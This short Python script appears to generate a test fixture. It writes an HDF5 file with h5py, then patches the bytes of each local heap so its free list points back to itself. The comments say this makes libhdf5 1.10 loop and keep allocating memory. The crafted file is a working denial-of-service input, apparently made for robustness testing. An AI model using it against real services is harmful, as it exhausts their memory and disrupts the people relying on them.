# A damaged file: each list of free room in the heaps of its names leads back to itself.
# libhdf5 1.10 goes round it and takes more memory each time.
import struct
import h5py
with h5py.File("circular-free-list.h5", "w") as f:
    f.create_group("group/inner")
content = bytearray(open("circular-free-list.h5", "rb").read())
start = 0
while (heap := content.find(b"HEAP\0", start)) >= 0:
    size, first, address = struct.unpack("<QQQ", content[heap + 8:heap + 32])
    content[address + first:address + first + 8] = struct.pack("<Q", first)
    start = heap + 4
open("circular-free-list.h5", "wb").write(content)
